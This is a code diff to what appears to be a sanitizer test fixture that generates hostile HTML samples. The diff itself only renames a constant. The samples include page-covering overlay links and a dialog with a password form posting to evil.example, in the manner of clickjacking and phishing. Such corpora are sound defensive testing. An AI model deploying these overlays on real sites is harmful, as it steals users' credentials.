@@ -86,21 +86,21 @@ const COVERS = [
   'view-transition-name:root;contain:layout',
 ];
 /** Classes that the product's own sheets put somewhere else, and elements that browsers do. */
-const PLACED = (
+const POSITIONED = (
   'cms-fader cms-notices cms-notice cms-dialog cms-window cms-corner cms-drawing skip-link site-header menu--overlay ui-window__box ' +
   'consent inspector user-area__list visually-hidden'
 ).split(' ');
 const covering = COVERS.flatMap((cover, i) => [
   `<a href="https://evil.example/" style="${cover}">Log in</a>`,
-  `<div class="${PLACED[i % PLACED.length]!}" style="${cover}"><a class="cms-notice" href="https://evil.example/" style="${cover}">Log in</a></div>`,
+  `<div class="${POSITIONED[i % POSITIONED.length]!}" style="${cover}"><a class="cms-notice" href="https://evil.example/" style="${cover}">Log in</a></div>`,
   `<dialog open style="${cover}"><form action="https://evil.example/"><input type=password></form></dialog>`,
   `<table style="${cover}"><tr><td style="${cover}">x</td></tr></table>`,
 ]);
-const placed = PLACED.flatMap((name) =>
+const positioned = POSITIONED.flatMap((name) =>
   COVERS.filter((_, i) => i % 4 === 3).flatMap((cover) => [
     `<div class="cms-notices ${name}"><a class="${name} cms-notice" href="https://evil.example/" style="${cover}">x</a></div>`,
     `<section popover="auto" id="${name}" class="${name}" style="${cover}">x</section><button popovertarget="${name}">x</button>`,
   ]),
 );
 
-export const styles: readonly string[] = [...fetching, ...running, ...covering, ...placed];
+export const styles: readonly string[] = [...fetching, ...running, ...covering, ...positioned];
